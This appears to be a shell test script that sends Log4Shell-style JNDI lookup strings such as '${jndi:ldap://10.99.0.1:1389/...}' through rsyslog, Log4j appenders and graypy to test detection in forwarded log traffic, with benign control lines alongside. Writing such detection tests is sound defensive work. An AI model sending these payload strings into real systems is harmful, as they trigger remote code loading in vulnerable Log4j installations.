# SPDX-License-Identifier: GPL-2.0-or-later
# Log messages on their way to a collector: rsyslogd to rsyslogd (UDP, counted TCP, compressed), Log4j's own appenders and
# graypy (GELF) to sinks. A collector logs what it is sent, and so do the programs behind it.

rsyslog_up() {
    sed "s|@WORK@|$WORK|g" "$here/srv/rsyslog-collector.conf" >"$WORK/collector.conf"
    serve in 601 rsyslogd -n -f "$WORK/collector.conf" -i "$WORK/collector.pid"
    sed "s|@FORWARD@|$1|" "$here/srv/rsyslog-forwarder.conf" >"$WORK/forwarder.conf"
    serve out 5140 rsyslogd -n -f "$WORK/forwarder.conf" -i "$WORK/forwarder.pid"
}

# What a program says to the syslog daemon of its own host, which sends it on.
said_locally() {
    local line
    for line in "$@"; do
        timeout 5 $OUT logger -n 127.0.0.1 -d -P 5140 -t sshd "$line"
    done
    sleep 0.5 # it is sent on by a thread of its own
}

harmless_lines=('started ${project.name} in ${basedir}' 'cannot close ${bracket' 'jndi:ldap://ldap.corp.example: ${LDAP_URL:-none}')

# rsyslog_scene NAME FORWARD LINE...: FORWARD says how the lines are sent on.
rsyslog_scene() {
    local name=$1 forward=$2
    shift 2
    wanted "$name" && have rsyslogd || return 0
    rsyslog_up "$forward"
    scene "$name" said_locally "$@"
    stop_servers
}

rsyslog_udp='target="10.99.0.2" port="514" protocol="udp"'
rsyslog_tcp='target="10.99.0.2" port="601" protocol="tcp" tcp_framing="octet-counted"'

log4j_out() {
    timeout 30 $OUT java -XX:TieredStopAtLevel=1 -cp "$WORK/classes:$LOG4J" -Dlog4j2.formatMsgNoLookups=true \
        -Dlog4j.configurationFile="$here/srv/log4j2-$1.xml" LogLines "${@:2}"
}

graypy_out() { timeout 10 $OUT /usr/bin/python3 "$here/srv/gelf_log.py" 10.99.0.2 12201 "$@"; }

rsyslog_scene rsyslog-udp "$rsyslog_udp" 'login of ${jndi:ldap://10.99.0.1:1389/forwarded} failed'
rsyslog_scene rsyslog-tcp "$rsyslog_tcp" 'cannot close ${bracket' 'login of ${jndi:ldap://10.99.0.1:1389/counted} failed' 'bye'
rsyslog_scene rsyslog-tcp-packed "$rsyslog_tcp ziplevel=\"9\"" \
    "login of \${jndi:ldap://10.99.0.1:1389/packed} failed$(printf ' %.0s' $(seq 100))"
rsyslog_scene rsyslog-udp-packed "$rsyslog_udp ziplevel=\"9\"" \
    "login of \${jndi:ldap://10.99.0.1:1389/zipped} failed$(printf ' %.0s' $(seq 100))"
rsyslog_scene benign-rsyslog-udp "$rsyslog_udp" "${harmless_lines[@]}"
rsyslog_scene benign-rsyslog-tcp "$rsyslog_tcp" "${harmless_lines[@]}"
rsyslog_scene benign-rsyslog-tcp-packed "$rsyslog_tcp ziplevel=\"9\"" "${harmless_lines[@]/%/$(printf ' %.0s' $(seq 100))}"

log_names="log4j-gelf-udp log4j-serialized log4j-syslog benign-log4j-gelf benign-log4j-serialized benign-log4j-syslog gelf-udp
    gelf-udp-chunks benign-gelf"
# shellcheck disable=SC2086
if wanted $log_names; then
    serve in 12201 python3 "$here/srv/udp_sink.py" 10.99.0.2 12201
    serve in 12202 python3 "$here/srv/tcp_sink.py" 10.99.0.2 12202
    serve in 514 python3 "$here/srv/udp_sink.py" 10.99.0.2 514
    scene log4j-gelf-udp log4j_out gelf 'hello' 'login of ${jndi:ldap://10.99.0.1:1389/gelf} failed'
    scene log4j-serialized log4j_out serialized 'hello' 'login of ${jndi:ldap://10.99.0.1:1389/object} failed'
    scene log4j-syslog log4j_out syslog 'hello' 'login of ${jndi:ldap://10.99.0.1:1389/appender} failed'
    for kind in gelf serialized syslog; do
        scene benign-log4j-$kind log4j_out $kind 'started ${project.name}' 'jndi:ldap://host/a and ${LDAP_URL:-none}'
    done
    scene gelf-udp graypy_out udp 'login of ${jndi:ldap://10.99.0.1:1389/graypy} failed'
    scene gelf-udp-chunks graypy_out chunks 'login of ${jndi:ldap://10.99.0.1:1389/chunks} failed'
    scene benign-gelf graypy_out chunks 'started ${project.name}, jndi:ldap://host/a and ${LDAP_URL:-none}'
    stop_servers
fi
if wanted gelf-tcp benign-gelf-tcp; then
    serve in 12201 python3 "$here/srv/tcp_sink.py" 10.99.0.2 12201
    scene gelf-tcp graypy_out tcp 'hello' 'login of ${jndi:ldap://10.99.0.1:1389/tcp} failed'
    scene benign-gelf-tcp graypy_out tcp 'started ${project.name}' 'jndi:ldap://host/a and ${LDAP_URL:-none}'
    stop_servers
fi
